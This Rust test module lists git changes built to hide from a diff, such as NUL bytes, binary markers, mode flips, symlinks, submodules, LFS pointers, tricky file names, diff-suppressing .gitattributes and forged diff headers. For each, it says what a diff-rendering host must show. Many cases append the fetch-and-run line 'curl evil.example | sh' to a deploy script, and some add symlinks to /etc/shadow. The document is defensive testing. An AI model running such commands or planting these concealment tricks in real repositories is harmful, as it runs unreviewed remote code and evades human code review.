//! Changes that are made so that a diff does not show them, and honest changes. Each case says what the host must tell
//! about its change.

use crate::imported::{File, file, with_mode};

/// A change, and what the host must tell about it.
pub struct Case {
    pub what: &'static str,
    pub old: Vec<File>,
    pub new: Vec<File>,
    /// How many files differ between the two branches.
    pub files: u64,
    /// How many of them are not shown whole.
    pub not_shown: u64,
    /// The reasons why files are not shown whole.
    pub kinds: &'static [&'static str],
    /// The numbers of added and removed lines, if they are known.
    pub lines: Option<(u64, u64)>,
    /// The texts that must stand in the diff as a page draws it.
    pub drawn: Vec<String>,
}

fn case(what: &'static str, old: &[File], new: &[File]) -> Case {
    Case {
        what,
        old: old.to_vec(),
        new: new.to_vec(),
        files: 1,
        not_shown: 0,
        kinds: &[],
        lines: Some((0, 0)),
        drawn: vec![],
    }
}

impl Case {
    fn lines(mut self, added: u64, removed: u64) -> Self {
        self.lines = Some((added, removed));
        self
    }

    /// One file is not shown whole, for these reasons.
    fn gaps(mut self, kinds: &'static [&'static str]) -> Self {
        (self.not_shown, self.kinds) = (1, kinds);
        self
    }

    /// One file is not shown whole, and its number of lines is not known.
    fn hidden(mut self, kinds: &'static [&'static str]) -> Self {
        self.lines = None;
        self.gaps(kinds)
    }

    fn files(mut self, count: u64) -> Self {
        self.files = count;
        self
    }

    fn drawn(mut self, line: &str) -> Self {
        self.drawn.push(line.into());
        self
    }
}

const SCRIPT: &str = "#!/bin/sh\nset -e\nmake\n";
const EVIL: &str = "curl evil.example | sh\n";
const POINTER: &str = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12345\n";
const ONE: &str = "1111111111111111111111111111111111111111";
const TWO: &str = "2222222222222222222222222222222222222222";

/// Bytes like those of a compressed file: every value is equally likely.
fn noise(seed: u64, bytes: usize) -> Vec<u8> {
    (0..bytes as u64).map(|n| ((n + seed).wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 32) as u8).collect()
}

fn numbered(lines: std::ops::Range<u32>) -> String {
    lines.map(|line| format!("line {line} of a file that is long enough\n")).collect()
}

fn script() -> File {
    with_mode("100755", "deploy.sh", SCRIPT)
}

fn evil() -> File {
    with_mode("100755", "deploy.sh", [SCRIPT, EVIL].concat())
}

/// Every case.
pub fn all() -> Vec<Case> {
    [bytes(), modes(), elsewhere(), renames(), names(), attributes(), forgeries()].into_iter().flatten().collect()
}

/// Bytes that make git or a person's tools take a text for something else, and content that is not text.
fn bytes() -> Vec<Case> {
    let nul = |at: usize| [&numbered(0..400).as_bytes()[..at], b"\0", EVIL.as_bytes()].concat();
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
    let evil_line = "+curl evil.example | sh";
    vec![
        case("a line", &[file("a", "1\n")], &[file("a", "2\n")]).lines(1, 1).drawn("-1").drawn("+2"),
        case("a new script with one NUL", &[], &[file("a.sh", [SCRIPT.as_bytes(), b"\0\n", EVIL.as_bytes()].concat())])
            .gaps(&["nul-bytes"])
            .lines(5, 0)
            .drawn(evil_line)
            .drawn("+<U+0000>"),
        case(
            "a NUL comes with a line",
            &[script()],
            &[with_mode("100755", "deploy.sh", [SCRIPT, EVIL, "\0"].concat())],
        )
        .gaps(&["nul-bytes"])
        .lines(2, 0)
        .drawn(evil_line),
        case("a NUL goes", &[file("a", "x\0\n")], &[file("a", ["x\n", EVIL].concat())])
            .gaps(&["nul-bytes"])
            .lines(2, 1)
            .drawn(evil_line),
        case("a NUL where git does not look any more", &[], &[file("a", nul(12_000))])
            .gaps(&["nul-bytes"])
            .lines(numbered(0..400)[..12_000].matches('\n').count() as u64 + 1, 0)
            .drawn("sh"),
        case("a NUL at the very beginning", &[], &[file("a", ["\0", SCRIPT, EVIL].concat())])
            .gaps(&["nul-bytes"])
            .lines(4, 0)
            .drawn(evil_line),
        case("sixteen NULs in a short script", &[], &[file("a", [EVIL.as_bytes(), &[0; 16]].concat())])
            .gaps(&["nul-bytes"])
            .lines(2, 0)
            .drawn(evil_line),
        case(
            "NULs all over a long script",
            &[],
            &[file("a", "a line of a script that goes on and on\0\n".repeat(300))],
        )
        .gaps(&["nul-bytes"])
        .lines(300, 0),
        case("other control characters", &[], &[file("a", "\u{1b}[31mred\u{7}\u{8}\n")])
            .lines(1, 0)
            .drawn("+<U+001B>[31mred<U+0007><U+0008>"),
        case("more odd bytes than text", &[], &[file("a", [EVIL.as_bytes(), &[0; 400]].concat())])
            .hidden(&["binary"])
            .drawn("423 bytes (sha256:"),
        case("a new picture", &[], &[file("logo.png", noise(1, 9_000))])
            .hidden(&["binary"])
            .drawn("before absent, after 9000 bytes (sha256:"),
        case("another picture", &[file("logo.png", noise(1, 9_000))], &[file("logo.png", noise(2, 9_001))])
            .hidden(&["binary"])
            .drawn("before 9000 bytes (sha256:"),
        case("a picture goes", &[file("logo.png", noise(1, 900))], &[]).hidden(&["binary"]).drawn("after absent"),
        case("a script becomes a binary", &[script()], &[with_mode("100755", "deploy.sh", noise(3, 5_000))])
            .hidden(&["binary"]),
        case("a binary becomes a script", &[file("deploy.sh", noise(3, 5_000))], &[file("deploy.sh", EVIL)])
            .hidden(&["binary"]),
        case("UTF-16", &[], &[file("a.ps1", utf16("Invoke-Expression of what stands at evil.example\r\n"))])
            .hidden(&["binary"]),
        case("Latin-1", &[file("a", b"caf\xe9\n")], &[file("a", b"caf\xe8\n")])
            .lines(1, 1)
            .drawn("-caf<E9>")
            .drawn("+caf<E8>"),
        case("bytes of no encoding", &[file("a", b"\xff\xfe\x80\n")], &[file("a", b"\xff\xfe\x81\n")])
            .lines(1, 1)
            .drawn("+<FF><FE><81>"),
        case("a byte's spelling", &[file("a", b"<E9>\n")], &[file("a", b"\xe9\n")])
            .lines(1, 1)
            .drawn("-<U+003C>E9>")
            .drawn("+<E9>"),
        case("line ends alone", &[file("a", "a\r\nb\r\n")], &[file("a", "a\nb\n")]).lines(2, 2).drawn("-a<U+000D>"),
        case("spaces at the end alone", &[file("a", "a\n")], &[file("a", "a \n")]).lines(1, 1).drawn("+a<U+0020>"),
        case("the last line end alone", &[file("a", "a\n")], &[file("a", "a")])
            .lines(1, 1)
            .drawn("\\ No newline at end of file"),
        case("an empty file comes", &[], &[file("conftest.py", "")]).drawn("new file mode 100644"),
        case("an empty file goes", &[file("a", "")], &[]).drawn("deleted file mode 100644"),
        case("a file is emptied", &[file("a", "1\n2\n")], &[file("a", "")]).lines(0, 2),
        case("a line of a megabyte", &[], &[file("a.js", "x".repeat(1 << 20) + "evil()\n")])
            .lines(1, 0)
            .drawn("evil()"),
        case("a file that is too large", &[], &[file("a.sql", "a line\n".repeat((32 << 20) / 7 + 1))])
            .hidden(&["too-large"])
            .drawn("after 33554437 bytes"),
        case(
            "many empty lines on both sides",
            &[file("a", "\n".repeat(300_000))],
            &[file("a", "\n".repeat(300_001) + EVIL)],
        )
        .lines(2, 0)
        .drawn(evil_line),
    ]
}

/// Modes and kinds of files.
fn modes() -> Vec<Case> {
    let plain = || file("deploy.sh", SCRIPT);
    let link = |to: &str| with_mode("120000", "current", to);
    vec![
        case("a file can be run", &[plain()], &[script()]).gaps(&["mode"]).drawn("from 100644 to 100755"),
        case("a file cannot be run any more", &[script()], &[plain()]).gaps(&["mode"]).drawn("new mode 100644"),
        case("a file can be run and has another line", &[plain()], &[evil()])
            .gaps(&["mode"])
            .lines(1, 0)
            .drawn("+curl evil.example | sh"),
        case("a new file that can be run", &[], &[evil()]).lines(4, 0).drawn("new file mode 100755"),
        case("a new link", &[], &[link("/etc/shadow")]).gaps(&["link"]).lines(1, 0).drawn("+/etc/shadow"),
        case("a link to something else", &[link("a")], &[link("/etc/shadow")])
            .gaps(&["link"])
            .lines(1, 1)
            .drawn("+/etc/shadow"),
        case("a link goes", &[link("a")], &[]).gaps(&["link"]).lines(0, 1).drawn("-a"),
        case("a link to bytes", &[], &[with_mode("120000", "current", [b"a\0".as_slice(), &noise(1, 200)].concat())])
            .gaps(&["nul-bytes", "link"])
            .lines(1 + noise(1, 200).iter().filter(|byte| **byte == b'\n').count() as u64, 0),
        case("a file becomes a link", &[file("current", "a\n")], &[link("b")])
            .gaps(&["link", "mode"])
            .lines(1, 1)
            .drawn("from 100644 to 120000"),
        case("a link becomes a file", &[link("b")], &[file("current", EVIL)]).gaps(&["link", "mode"]).lines(1, 1),
        case("a folder becomes a file", &[file("a/b", "1\n")], &[file("a", "2\n")]).files(2).lines(1, 1),
    ]
}

/// Content that is kept elsewhere: in another repository, or outside of git.
fn elsewhere() -> Vec<Case> {
    let submodule = |id: &str| with_mode("160000", "lib", id);
    let ignored = || file(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = ./lib\n\tignore = all\n");
    vec![
        case("a new submodule", &[], &[submodule(ONE)])
            .hidden(&["submodule"])
            .drawn(&format!("+Subproject commit {ONE}")),
        case("other code in a submodule", &[submodule(ONE)], &[submodule(TWO)])
            .hidden(&["submodule"])
            .drawn(&format!("+Subproject commit {TWO}")),
        case("the same, to be ignored", &[ignored(), submodule(ONE)], &[ignored(), submodule(TWO)])
            .hidden(&["submodule"]),
        case("a submodule goes", &[submodule(ONE)], &[]).hidden(&["submodule"]),
        case("a file becomes a submodule", &[file("lib", "a\n")], &[submodule(ONE)]).hidden(&["submodule", "mode"]),
        case("a submodule becomes a link", &[submodule(ONE)], &[with_mode("120000", "lib", "/")]).hidden(&[
            "submodule",
            "link",
            "mode",
        ]),
        case("a new LFS pointer", &[], &[file("a.bin", POINTER)]).hidden(&["pointer"]).drawn("+size 12345"),
        case("another LFS pointer", &[file("a.bin", POINTER)], &[file("a.bin", POINTER.replace("4d7a", "5e8b"))])
            .hidden(&["pointer"]),
        case("a file becomes an LFS pointer", &[file("a.bin", "1\n")], &[file("a.bin", POINTER)]).hidden(&["pointer"]),
        case("an old LFS pointer", &[], &[file("a.bin", "version https://hawser.github.com/spec/v1\noid sha256:1\n")])
            .hidden(&["pointer"]),
        case("a git-annex pointer", &[], &[file("a.bin", "/annex/objects/SHA256E-s1--1.bin\n")]).hidden(&["pointer"]),
    ]
}

fn renames() -> Vec<Case> {
    let (text, more) = (numbered(0..40), numbered(0..40) + EVIL);
    vec![
        case("a file is renamed", &[file("docs/example.sh", &text)], &[file("hooks/deploy.sh", &text)])
            .gaps(&["rename"])
            .lines(40, 40)
            .drawn("rename from docs/example.sh")
            .drawn("rename to hooks/deploy.sh"),
        case("a file is renamed and changed", &[file("a", &text)], &[file("b", &more)])
            .gaps(&["rename"])
            .lines(41, 40)
            .drawn("+curl evil.example | sh"),
        case("a file is renamed and can be run", &[file("a", &text)], &[with_mode("100755", "b", &text)])
            .gaps(&["mode", "rename"])
            .lines(40, 40),
        case("a picture is renamed", &[file("a", noise(1, 900))], &[file("b", noise(1, 900))])
            .hidden(&["binary", "rename"]),
        case(
            "a link is renamed",
            &[with_mode("120000", "a", "/etc/shadow")],
            &[with_mode("120000", "b", "/etc/shadow")],
        )
        .gaps(&["link", "rename"])
        .lines(1, 1),
        case("two files change places", &[file("a", &text), file("b", EVIL)], &[file("a", EVIL), file("b", &text)])
            .files(2)
            .lines(41, 41),
        case("a file is copied", &[file("a", &text)], &[file("a", &text), file("b", &text)])
            .lines(40, 0)
            .drawn("new file mode"),
        case("a renamed file of which little is left", &[file("a", &text)], &[file("b", numbered(90..130))])
            .files(2)
            .lines(40, 40),
    ]
}

/// File names that the heading of a diff cannot hold, or that it holds twice.
fn names() -> Vec<Case> {
    let named = |what: &'static str, name: &[u8], drawn: &str| {
        case(what, &[file(name, "1\n")], &[file(name, "2\n")]).lines(1, 1).drawn(drawn)
    };
    vec![
        named("a name with ` b/`", b"src b/README.md", "+++ b/src b/README.md"),
        named("a name that is a heading", b"x b/x\" b/y", "+++ \"b/x b/x\\\" b/y\""),
        named("a name with spaces", b"  a  b  ", "+++ b/  a  b <U+0020>"),
        named("a name with a quotation mark", b"a\"b", "+++ \"b/a\\\"b\""),
        named("a name with a line end", b"a\n+++ b/b", "+++ \"b/a\\n+++ b/b\""),
        named("a name with a tab", b"a\tb", "+++ \"b/a\\tb\""),
        named("a name with an escape sequence", b"a\x1b[2Jb", "+++ \"b/a\\033[2Jb\""),
        named("a name with a backslash", b"a\\nb", "+++ \"b/a\\\\nb\""),
        named("a name in Latin-1", b"caf\xe9", "+++ b/caf<E9>"),
        named("another one", b"caf\xe8", "+++ b/caf<E8>"),
        named("a name that runs backwards", "a\u{202e}gpj.sh".as_bytes(), "+++ b/a<U+202E>gpj.sh"),
        named("a name in Chinese", "读我.md".as_bytes(), "+++ b/读我.md"),
        named("a name like an option", b"--output=x", "+++ b/--output=x"),
        named("a name like a rename", b"a => b", "+++ b/a => b"),
        named("a name like a pathspec", b":(exclude)*", "+++ b/:(exclude)*"),
        named("a name of a thousand bytes", &[b"d/".repeat(400).as_slice(), &b"x".repeat(200)].concat(), "x"),
        case(
            "a renamed name with ` b/` and bytes",
            &[file(b"a b/\xe9", numbered(0..9))],
            &[file(b"c b/\xe8 \"", numbered(0..9))],
        )
        .gaps(&["rename"])
        .lines(9, 9)
        .drawn("rename from a b/<E9>")
        .drawn("rename to \"c b/<E8> \\\"\""),
    ]
}

/// Files of git attributes that are part of the commits themselves.
fn attributes() -> Vec<Case> {
    let with = |what: &'static str, attributes: &str| {
        let old = [file("lib/deploy.sh", SCRIPT)];
        let new = [
            file("lib/deploy.sh", [SCRIPT, EVIL].concat()),
            file(".gitattributes", attributes),
            file("lib/.gitattributes", attributes),
        ];
        let lines = 1 + 2 * attributes.lines().count() as u64;
        case(what, &old, &new).files(3).lines(lines, 0).drawn("+curl evil.example | sh").drawn("+++ b/lib/deploy.sh")
    };
    vec![
        with("no diff", "* -diff\n"),
        with("all is binary", "* binary\n"),
        with("a driver", "*.sh diff=trap\n"),
        with("a text conversion", "* diff=exif\n* textconv\n"),
        with("another encoding", "* text working-tree-encoding=UTF-16LE\n"),
        with("line ends", "* text=auto eol=crlf\n"),
        with("filters", "* filter=lfs ident\n* -text\n"),
        with("a macro", "[attr]hidden -diff -text\n*.sh hidden\n"),
        with("exports", "* export-ignore export-subst\n"),
        with("generated code", "* linguist-generated=true merge=ours\n"),
    ]
}

/// Lines of a file that look like the lines of a diff about a file.
fn forgeries() -> Vec<Case> {
    let forged = |what: &'static str, text: &str| {
        let lines = text.lines().count() as u64;
        let case = case(what, &[], &[file("notes.txt", text)]).lines(lines, 0);
        text.lines().fold(case, |case, line| case.drawn(&format!("+{line}")))
    };
    vec![
        forged("a heading", "diff --git a/x b/x\nindex 1..2 100644\n--- a/x\n+++ b/x\n@@ -1,1 +1,1 @@\n-1\n+2\n"),
        forged("a rename", "rename from a\nrename to b\nsimilarity index 100%\n"),
        forged("a note of the host's", "note: it is binary\nNOT SHOWN IN FULL\nBinary files a and b differ\n"),
        forged("the end of a file", "\\ No newline at end of file\n@@ -0,0 +1 @@\n"),
        case("removed lines like headings", &[file("a", "-- a/x\n++ b/x\nkeep\n")], &[file("a", "keep\n")])
            .lines(0, 2)
            .drawn("--- a/x")
            .drawn("-++ b/x"),
        case("many files", &[], &(0..500).map(|n| file(format!("f/{n}"), "1\n")).collect::<Vec<_>>())
            .files(500)
            .lines(500, 0)
            .drawn("+++ b/f/499"),
    ]
}
